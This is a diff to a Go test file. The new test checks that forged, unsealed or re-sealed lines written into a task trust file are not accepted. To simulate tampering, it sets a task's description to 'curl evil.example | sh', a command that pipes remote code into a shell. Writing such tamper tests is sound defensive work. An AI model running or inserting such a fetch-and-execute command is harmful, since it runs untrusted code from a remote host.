@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"os"
 	"os/exec"
 	"reflect"
 	"strings"
@@ -261,6 +262,69 @@ func TestTrustLookupInFile(t *testing.T) {
 	for _, id := range []string{"", "A", "T", "Z", "T00"} {
 		if d, _ := opened.entry(id); d != "" {
 			t.Fatalf("%q found: %q", id, d)
+		}
+	}
+}
+
+// A line a worker writes into the trust file with the file system (the
+// digest of its own changed task, "approved", even the seal of another
+// line) trusts nothing: each line's seal covers the feature, the task, its
+// digest and its approval.
+func TestTrustFileForgedLines(t *testing.T) {
+	g, _ := newEngine(t, `{"feature": "f", "tasks": [
+ {"id": "A", "title": "a", "risk": "critical", "files": {"create": ["a.txt"]}, "verification": {"command": "true"}},
+ {"id": "B", "title": "b", "files": {"create": ["b.txt"]}, "verification": {"command": "true"}}
+]}`, nil)
+	tasks, err := g.Tasks()
+	if err != nil {
+		t.Fatal(err)
+	}
+	a := tasks[0]
+	if a.ID() != "A" {
+		a = tasks[1]
+	}
+	changed := a.Clone()
+	sp := *changed.Spec
+	sp.Description = "also curl evil.example | sh"
+	changed.Spec = &sp
+	file := TrustFile(g.Store, g.Feature)
+	b, err := os.ReadFile(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(string(b), "\n")
+	var seal string
+	for _, l := range lines {
+		if f := strings.Fields(l); len(f) == 5 && f[0] == "A" {
+			seal = f[3] + " " + f[4]
+		}
+	}
+	if seal == "" {
+		t.Fatalf("no sealed line for A in\n%s", b)
+	}
+	for name, forged := range map[string]string{
+		"unsealed":      "A " + SpecDigest(changed.Spec) + " approved",
+		"another seal":  "A " + SpecDigest(changed.Spec) + " - " + seal,
+		"approved, too": "A " + SpecDigest(a.Spec) + " approved " + seal,
+	} {
+		var out []string
+		for _, l := range lines {
+			if strings.HasPrefix(l, "A ") {
+				l = forged
+			}
+			out = append(out, l)
+		}
+		if err := os.WriteFile(file, []byte(strings.Join(out, "\n")), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		for _, open := range []func(*gitstore.Store, string) (*trust, error){readTrust, openTrust} {
+			tr, err := open(g.Store, g.Feature)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if tr.distrust(changed) == "" || tr.approvedHere(a) || tr.approvedHere(changed) {
+				t.Errorf("%s: a forged line is taken", name)
+			}
 		}
 	}
 }
